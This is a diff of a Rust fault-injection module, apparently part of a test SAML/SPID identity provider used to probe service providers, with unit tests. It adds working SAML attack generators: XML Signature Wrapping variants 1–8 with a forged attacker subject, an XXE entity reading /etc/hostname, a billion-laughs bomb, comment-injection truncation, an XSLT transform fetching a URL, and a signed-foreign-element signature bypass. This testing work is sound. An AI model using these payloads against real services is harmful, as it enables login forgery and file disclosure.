@@ -2,10 +2,11 @@
 //! honest Response first; the plan then edits the tree before signing, chooses what is signed
 //! and with which key, and edits the signed tree afterwards (wrapping attacks live there).
 
+use chrono::{DateTime, Duration, Utc};
 use serde::{Deserialize, Serialize};
 use spid_core::errors::SpidError;
-use spid_core::saml::ns;
 use spid_core::saml::xml::{Element, Node};
+use spid_core::saml::{new_id, ns};
 use spid_core::SpidLevel;
 
 /// An element of the Response a mutation addresses.
@@ -131,6 +132,116 @@ pub enum Mutation {
         /// What.
         target: Target,
     },
+    /// Sets an attribute to the IdP's current time plus `offset` seconds.
+    SetInstant {
+        /// Where.
+        target: Target,
+        /// Attribute name.
+        name: String,
+        /// Seconds from now (negative: past).
+        #[serde(default)]
+        offset: i64,
+        /// How many fractional digits.
+        #[serde(default)]
+        precision: Precision,
+    },
+    /// Removes attribute `name` from every element whose local name is `element`.
+    RemoveAttrEverywhere {
+        /// Local name of the elements.
+        element: String,
+        /// Attribute name.
+        name: String,
+    },
+    /// Splits the target's text with a comment (`ab<!---->c`): XML canonicalisation drops
+    /// comments, so a signature still verifies while naive text readers see a truncated value.
+    InjectComment {
+        /// Where.
+        target: Target,
+    },
+    /// Appends a copy of the (signed) Assertion with a new ID after it.
+    DuplicateAssertion,
+    /// XML Signature Wrapping, variants 1–8 (the SAML Raider numbering).
+    Xsw {
+        /// 1..=8.
+        variant: u8,
+    },
+    /// Adds an XSLT transform to the Response signature's Transforms.
+    XsltTransform,
+    /// Puts a correctly signed foreign element (the IdP's own signed metadata) first in the
+    /// Response, the signature-verification bypass of spid-saml-check 112/113.
+    SignedForeignElement,
+}
+
+/// Fractional-second digits of a generated instant.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum Precision {
+    /// `…:SS.mmmZ`.
+    #[default]
+    Millis,
+    /// `…:SS.uuuuuuZ`.
+    Micros,
+    /// `…:SSZ`.
+    Seconds,
+}
+
+/// An edit of the serialised document (what a tree cannot express).
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(tag = "op", rename_all = "kebab-case", deny_unknown_fields)]
+pub enum RawMutation {
+    /// Prepends a DOCTYPE.
+    Doctype {
+        /// Which.
+        kind: DoctypeKind,
+    },
+    /// Appends text after the root element.
+    Append {
+        /// What.
+        text: String,
+    },
+    /// Prepends `<?xml version="1.0" encoding="UTF-8"?>`.
+    XmlDeclaration,
+}
+
+/// DOCTYPE payloads.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum DoctypeKind {
+    /// An external entity (XXE) referenced from the NameID.
+    Xxe,
+    /// Nested entity expansion ("billion laughs").
+    BillionLaughs,
+    /// A harmless internal subset, no entity used.
+    Internal,
+}
+
+impl RawMutation {
+    /// Applies the edit to the serialised document.
+    pub fn apply(&self, xml: &str) -> String {
+        match self {
+            RawMutation::Doctype { kind } => {
+                let (dtd, body) = match kind {
+                    DoctypeKind::Xxe => (
+                        r#"<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>"#,
+                        xml.replacen("</saml:NameID>", "&xxe;</saml:NameID>", 1),
+                    ),
+                    DoctypeKind::BillionLaughs => (
+                        r#"<!DOCTYPE samlp:Response [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">]>"#,
+                        xml.replacen("</saml:NameID>", "&f;</saml:NameID>", 1),
+                    ),
+                    DoctypeKind::Internal => (
+                        r#"<!DOCTYPE samlp:Response [<!ELEMENT x ANY>]>"#,
+                        xml.to_string(),
+                    ),
+                };
+                format!("{dtd}{body}")
+            }
+            RawMutation::Append { text } => format!("{xml}{text}"),
+            RawMutation::XmlDeclaration => {
+                format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n{xml}")
+            }
+        }
+    }
 }
 
 /// Which key signs.
@@ -154,6 +265,23 @@ pub struct SignSpec {
     pub response: bool,
     /// With which key.
     pub key: SigningKey,
+    /// Which certificate travels in KeyInfo.
+    pub keyinfo: KeyInfoCert,
+}
+
+/// The certificate put in `ds:KeyInfo` (a verifier must ignore it and use metadata).
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum KeyInfoCert {
+    /// The signer's own certificate.
+    #[default]
+    Signer,
+    /// The IdP's metadata certificate, whoever signs.
+    Idp,
+    /// The foreign certificate, whoever signs.
+    Foreign,
+    /// No KeyInfo.
+    None,
 }
 
 impl Default for SignSpec {
@@ -162,6 +290,7 @@ impl Default for SignSpec {
             assertion: true,
             response: true,
             key: SigningKey::Idp,
+            keyinfo: KeyInfoCert::Signer,
         }
     }
 }
@@ -180,6 +309,11 @@ pub struct FaultPlan {
     pub sign: SignSpec,
     /// Edits after signing (they break or dodge the signature).
     pub post_sign: Vec<Mutation>,
+    /// Edits of the serialised document.
+    pub raw: Vec<RawMutation>,
+    /// Release exactly these attributes (placeholder values where the user has none),
+    /// instead of the requested set.
+    pub attributes: Option<Vec<String>>,
 }
 
 impl FaultPlan {
@@ -194,38 +328,42 @@ impl FaultPlan {
 #[error("mutation target {0:?} not present")]
 pub struct MutationError(pub Target);
 
+/// What mutations may need besides the tree.
+#[derive(Debug, Clone, Copy)]
+pub struct MutationCtx<'a> {
+    /// The IdP's current time.
+    pub now: DateTime<Utc>,
+    /// A correctly signed foreign element (for [`Mutation::SignedForeignElement`]).
+    pub signed_foreign: Option<&'a Element>,
+}
+
+fn find(root: &mut Element, t: Target) -> Result<&mut Element, MutationError> {
+    t.find_mut(root).ok_or(MutationError(t))
+}
+
+fn instant(now: DateTime<Utc>, offset: i64, p: Precision) -> String {
+    let t = now + Duration::seconds(offset);
+    match p {
+        Precision::Millis => t.format("%Y-%m-%dT%H:%M:%S%.3fZ"),
+        Precision::Micros => t.format("%Y-%m-%dT%H:%M:%S%.6fZ"),
+        Precision::Seconds => t.format("%Y-%m-%dT%H:%M:%SZ"),
+    }
+    .to_string()
+}
+
 /// Applies `m` to `root`.
-pub fn apply(root: &mut Element, m: &Mutation) -> Result<(), MutationError> {
+pub fn apply(root: &mut Element, m: &Mutation, ctx: &MutationCtx<'_>) -> Result<(), MutationError> {
     match m {
         Mutation::SetAttr {
             target,
             name,
             value,
-        } => {
-            target
-                .find_mut(root)
-                .ok_or(MutationError(*target))?
-                .set_attr(name, value.clone());
-        }
+        } => find(root, *target)?.set_attr(name, value.clone()),
         Mutation::RemoveAttr { target, name } => {
-            target
-                .find_mut(root)
-                .ok_or(MutationError(*target))?
-                .remove_attr(name);
+            find(root, *target)?.remove_attr(name);
         }
-        Mutation::SetText { target, value } => {
-            target
-                .find_mut(root)
-                .ok_or(MutationError(*target))?
-                .set_text(value.clone());
-        }
-        Mutation::Empty { target } => {
-            target
-                .find_mut(root)
-                .ok_or(MutationError(*target))?
-                .children
-                .clear();
-        }
+        Mutation::SetText { target, value } => find(root, *target)?.set_text(value.clone()),
+        Mutation::Empty { target } => find(root, *target)?.children.clear(),
         Mutation::Remove { target } => {
             let path = target.path();
             let Some(((n, l), parent_path)) = path.split_last() else {
@@ -238,6 +376,199 @@ pub fn apply(root: &mut Element, m: &Mutation) -> Result<(), MutationError> {
             let i = cur.child_index(n, l).ok_or(MutationError(*target))?;
             cur.children.remove(i);
         }
+        Mutation::SetInstant {
+            target,
+            name,
+            offset,
+            precision,
+        } => {
+            find(root, *target)?.set_attr(name, instant(ctx.now, *offset, *precision));
+        }
+        Mutation::RemoveAttrEverywhere { element, name } => remove_everywhere(root, element, name),
+        Mutation::InjectComment { target } => {
+            let el = find(root, *target)?;
+            let text = el.text();
+            let cut = text
+                .char_indices()
+                .nth(text.chars().count().saturating_sub(1).max(1))
+                .map(|(i, _)| i)
+                .unwrap_or(text.len());
+            let (a, b) = text.split_at(cut);
+            el.children = vec![
+                Node::Text(a.into()),
+                Node::Comment(String::new()),
+                Node::Text(b.into()),
+            ];
+        }
+        Mutation::DuplicateAssertion => {
+            let i = root
+                .child_index(ns::SAML, "Assertion")
+                .ok_or(MutationError(Target::Assertion))?;
+            let mut copy = assertion_at(root, i).clone();
+            copy.set_attr("ID", new_id());
+            root.children.insert(i + 1, Node::Element(copy));
+        }
+        Mutation::Xsw { variant } => xsw(root, *variant)?,
+        Mutation::XsltTransform => {
+            let sig = root
+                .child_mut(ns::DS, "Signature")
+                .ok_or(MutationError(Target::Response))?;
+            let transforms = sig
+                .child_mut(ns::DS, "SignedInfo")
+                .and_then(|si| si.child_mut(ns::DS, "Reference"))
+                .and_then(|r| r.child_mut(ns::DS, "Transforms"))
+                .ok_or(MutationError(Target::Response))?;
+            let xsl = Element::new(
+                "xsl:stylesheet",
+                Some("http://www.w3.org/1999/XSL/Transform"),
+            )
+            .with_attr("xmlns:xsl", "http://www.w3.org/1999/XSL/Transform")
+            .with_attr("version", "1.0")
+            .with_child(
+                Element::new("xsl:template", Some("http://www.w3.org/1999/XSL/Transform"))
+                    .with_attr("match", "doc")
+                    .with_child(
+                        Element::new("xsl:variable", Some("http://www.w3.org/1999/XSL/Transform"))
+                            .with_attr("name", "x")
+                            .with_attr("select", "unparsed-text('http://127.0.0.1:9/xslt')"),
+                    ),
+            );
+            transforms.children.push(Node::Element(
+                Element::new("ds:Transform", Some(ns::DS))
+                    .with_attr("Algorithm", "http://www.w3.org/TR/1999/REC-xslt-19991116")
+                    .with_child(xsl),
+            ));
+        }
+        Mutation::SignedForeignElement => {
+            let el = ctx
+                .signed_foreign
+                .ok_or(MutationError(Target::Response))?
+                .clone();
+            root.children.insert(0, Node::Element(el));
+        }
+    }
+    Ok(())
+}
+
+fn remove_everywhere(el: &mut Element, local: &str, name: &str) {
+    if el.local() == local {
+        el.remove_attr(name);
+    }
+    for c in el.elements_mut() {
+        remove_everywhere(c, local, name);
+    }
+}
+
+fn assertion_at(root: &Element, i: usize) -> &Element {
+    match &root.children[i] {
+        Node::Element(e) => e,
+        _ => unreachable!("child_index returns element positions"),
+    }
+}
+
+/// An attacker's copy of `a`: new ID, another NameID, no signature.
+fn evil_copy(a: &Element) -> Element {
+    let mut e = a.clone();
+    e.set_attr("ID", new_id());
+    strip_signature(&mut e);
+    if let Some(n) = Target::NameId.path().get(1..).and_then(|p| {
+        let mut cur = &mut e;
+        for (pn, pl) in p {
+            cur = cur.child_mut(pn, pl)?;
+        }
+        Some(cur)
+    }) {
+        n.set_text("_evil-attacker-subject");
+    }
+    e
+}
+
+fn xsw(root: &mut Element, variant: u8) -> Result<(), MutationError> {
+    let i = root
+        .child_index(ns::SAML, "Assertion")
+        .ok_or(MutationError(Target::Assertion))?;
+    let original = assertion_at(root, i).clone();
+    match variant {
+        // 1, 2: a forged Response around (1) or beside (2) the original signed Response.
+        1 | 2 => {
+            let signed = root.clone();
+            let mut evil = root.clone();
+            evil.set_attr("ID", new_id());
+            let ai = evil
+                .child_index(ns::SAML, "Assertion")
+                .ok_or(MutationError(Target::Assertion))?;
+            evil.children[ai] = Node::Element(evil_copy(&original));
+            let si = evil
+                .child_index(ns::DS, "Signature")
+                .ok_or(MutationError(Target::Response))?;
+            if variant == 1 {
+                if let Node::Element(sig) = &mut evil.children[si] {
+                    sig.children.push(Node::Element(signed));
+                }
+            } else {
+                evil.children.insert(si, Node::Element(signed));
+            }
+            *root = evil;
+        }
+        // 3: evil Assertion before the signed one.
+        3 => root.children.insert(i, Node::Element(evil_copy(&original))),
+        // 4: the signed Assertion nested inside the evil one.
+        4 => {
+            let mut evil = evil_copy(&original);
+            evil.children.push(Node::Element(original));
+            root.children[i] = Node::Element(evil);
+        }
+        // 5: the original signature moved into an evil copy; the original, unsigned, after it.
+        5 => {
+            let mut evil = original.clone();
+            if let Some(n) = evil
+                .child_mut(ns::SAML, "Subject")
+                .and_then(|s| s.child_mut(ns::SAML, "NameID"))
+            {
+                n.set_text("_evil-attacker-subject");
+            }
+            let mut orig = original;
+            strip_signature(&mut orig);
+            orig.set_attr("ID", new_id());
+            root.children[i] = Node::Element(evil);
+            root.children.insert(i + 1, Node::Element(orig));
+        }
+        // 6: the evil Assertion inside the original Assertion's signature.
+        6 => {
+            let evil = evil_copy(&original);
+            let mut orig = original;
+            if let Some(sig) = orig.child_mut(ns::DS, "Signature") {
+                sig.children.push(Node::Element(evil));
+            }
+            root.children[i] = Node::Element(orig);
+        }
+        // 7: the signed Assertion hidden in an Extensions element, the evil one in its place.
+        7 => {
+            root.children[i] = Node::Element(evil_copy(&original));
+            let ext = Element::new("samlp:Extensions", Some(ns::SAMLP)).with_child(original);
+            let at = root.child_index(ns::SAMLP, "Status").unwrap_or(0);
+            root.children.insert(at, Node::Element(ext));
+        }
+        // 8: the evil Assertion carries the original signature, the original in a ds:Object.
+        8 => {
+            let mut evil = evil_copy(&original);
+            let mut sig = original
+                .child(ns::DS, "Signature")
+                .cloned()
+                .ok_or(MutationError(Target::Assertion))?;
+            let mut orig = original;
+            strip_signature(&mut orig);
+            sig.children.push(Node::Element(
+                Element::new("ds:Object", Some(ns::DS)).with_child(orig),
+            ));
+            let at = evil
+                .child_index(ns::SAML, "Issuer")
+                .map(|x| x + 1)
+                .unwrap_or(0);
+            evil.children.insert(at, Node::Element(sig));
+            root.children[i] = Node::Element(evil);
+        }
+        _ => return Err(MutationError(Target::Assertion)),
     }
     Ok(())
 }
@@ -266,44 +597,103 @@ mod tests {
         )
     }
 
+    fn ap(r: &mut Element, m: Mutation) -> Result<(), MutationError> {
+        apply(
+            r,
+            &m,
+            &MutationCtx {
+                now: Utc::now(),
+                signed_foreign: None,
+            },
+        )
+    }
+
     #[test]
     fn set_text_remove_and_missing_target() {
         let mut r = resp();
-        apply(
+        ap(
             &mut r,
-            &Mutation::SetText {
+            Mutation::SetText {
                 target: Target::Audience,
                 value: "evil".into(),
             },
         )
         .unwrap();
         assert_eq!(Target::Audience.find_mut(&mut r).unwrap().text(), "evil");
-        apply(
+        ap(
             &mut r,
-            &Mutation::Remove {
+            Mutation::Remove {
                 target: Target::AudienceRestriction,
             },
         )
         .unwrap();
         assert!(Target::Audience.find_mut(&mut r).is_none());
         assert_eq!(
-            apply(
+            ap(
                 &mut r,
-                &Mutation::Remove {
+                Mutation::Remove {
                     target: Target::Audience
                 }
             ),
             Err(MutationError(Target::Audience))
         );
-        apply(
+        ap(
             &mut r,
-            &Mutation::RemoveAttr {
+            Mutation::RemoveAttr {
                 target: Target::Assertion,
                 name: "ID".into(),
             },
         )
         .unwrap();
         assert_eq!(Target::Assertion.find_mut(&mut r).unwrap().attr("ID"), None);
+    }
+
+    fn count_assertions(e: &Element) -> usize {
+        e.descendants()
+            .iter()
+            .filter(|d| d.local() == "Assertion")
+            .count()
+    }
+
+    #[test]
+    fn every_xsw_variant_adds_an_unsigned_assertion() {
+        for v in 1..=8 {
+            let mut r = resp();
+            r.children
+                .insert(0, Node::Element(Element::new("ds:Signature", Some(ns::DS))));
+            if let Some(a) = r.child_mut(ns::SAML, "Assertion") {
+                a.children
+                    .insert(0, Node::Element(Element::new("ds:Signature", Some(ns::DS))));
+            }
+            ap(&mut r, Mutation::Xsw { variant: v }).unwrap();
+            assert!(count_assertions(&r) >= 2, "xsw{v}");
+        }
+        assert!(ap(&mut resp(), Mutation::Xsw { variant: 9 }).is_err());
+    }
+
+    #[test]
+    fn comment_injection_and_raw_edits() {
+        let mut r = resp();
+        ap(
+            &mut r,
+            Mutation::InjectComment {
+                target: Target::Audience,
+            },
+        )
+        .unwrap();
+        let aud = Target::Audience.find_mut(&mut r).unwrap();
+        assert_eq!(aud.text(), "sp");
+        assert!(aud.has_comment());
+        let x = RawMutation::Doctype {
+            kind: DoctypeKind::Xxe,
+        }
+        .apply("<samlp:Response><saml:NameID>n</saml:NameID></samlp:Response>");
+        assert!(x.starts_with("<!DOCTYPE") && x.contains("&xxe;</saml:NameID>"));
+        assert!(RawMutation::Append {
+            text: "junk".into()
+        }
+        .apply("<r/>")
+        .ends_with("junk"));
     }
 
     #[test]
